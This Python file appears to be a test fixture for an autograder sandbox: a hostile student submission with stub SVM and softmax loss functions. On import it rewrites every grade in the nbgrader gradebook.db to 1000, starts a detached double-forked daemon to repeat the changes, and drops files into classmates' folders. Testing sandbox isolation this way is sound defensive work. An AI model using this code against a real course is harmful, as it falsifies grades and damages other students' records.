"""Hostile submission ``gradebook_rewrite``: a stub that rewrites the nbgrader gradebook.

At import it opens the course's ``gradebook.db`` (its path and the ``autograded/`` folder
written into this file by the test) with the standard library's sqlite3 and raises every
grade cell's maximum to 1000. It also leaves a detached process behind (fork, ``setsid``,
fork again) that for 20 s keeps giving every grade a manual score of 1000 (its own and its
classmates'), setting the maximum again, and dropping a file into every student's folder
under ``autograded/``. Every attempt and its outcome is printed. The functions themselves
do nothing (a zero loss and a zero gradient).

Expected: the worker cannot write outside its scratch folder nor start a process (the
full layer's view, uid and process limit; Landlock and the seccomp filter under the reduced
layer): every grade, every maximum and ``autograded/`` stay as the grader wrote them.
"""

import os
import time

import numpy as np

ATTACK = "gradebook_rewrite"


def _say(message):
    """Leave a line in the captured output (fd 2), whatever the student did to sys.stderr."""
    try:
        os.write(2, ("HOSTILE[%s]: %s\n" % (ATTACK, message)).encode("utf-8", "replace"))
    except OSError:
        pass


def _template(value):
    """Values the test writes into its copy of this file; None when left as a placeholder."""
    return None if value.startswith("__HOSTILE") else value


_GRADEBOOK = _template("__HOSTILE_GRADEBOOK__") or "gradebook.db"
_AUTOGRADED = _template("__HOSTILE_AUTOGRADED__") or "autograded"


def _sql(statement, quiet=False):
    import sqlite3

    try:
        # mode=rw: never create an empty database where there is none.
        db = sqlite3.connect("file:%s?mode=rw" % _GRADEBOOK, uri=True, timeout=1)
        with db:
            db.execute(statement)
        db.close()
        if not quiet:
            _say("gradebook %s: WRITTEN" % statement.split()[1])
    except Exception as exc:
        if not quiet:
            _say("gradebook %s: %s" % (statement.split()[1], type(exc).__name__))


def _drop_files():
    try:
        for student in os.listdir(_AUTOGRADED):
            folder = os.path.join(_AUTOGRADED, student)
            for top, _dirs, _files in os.walk(folder):
                with open(os.path.join(top, "pwned.txt"), "w") as f:
                    f.write("hostile")
    except OSError:
        pass


def _daemon():
    end = time.time() + 20
    while time.time() < end:
        _sql("UPDATE grade SET manual_score = 1000", quiet=True)
        _sql("UPDATE grade_cells SET max_score = 1000", quiet=True)
        _drop_files()
        time.sleep(0.05)


def _start():
    try:
        middle = os.fork()
    except OSError as exc:
        _say("fork: %s" % type(exc).__name__)
        return
    if middle:
        os.waitpid(middle, 0)
        _say("daemon started")
        return
    try:
        os.setsid()
        if os.fork():
            os._exit(0)
        for fd in (0, 1, 2):
            os.close(fd)
        _daemon()
    finally:
        os._exit(0)


_sql("UPDATE grade_cells SET max_score = 1000")
_start()


def svm_loss_naive(W, X, y, reg):
    return 0.0, np.zeros_like(W)


def svm_loss_vectorized(W, X, y, reg):
    return 0.0, np.zeros_like(W)


def softmax_loss_naive(W, X, y, reg):
    return 0.0, np.zeros_like(W)


def softmax_loss_vectorized(W, X, y, reg):
    return 0.0, np.zeros_like(W)
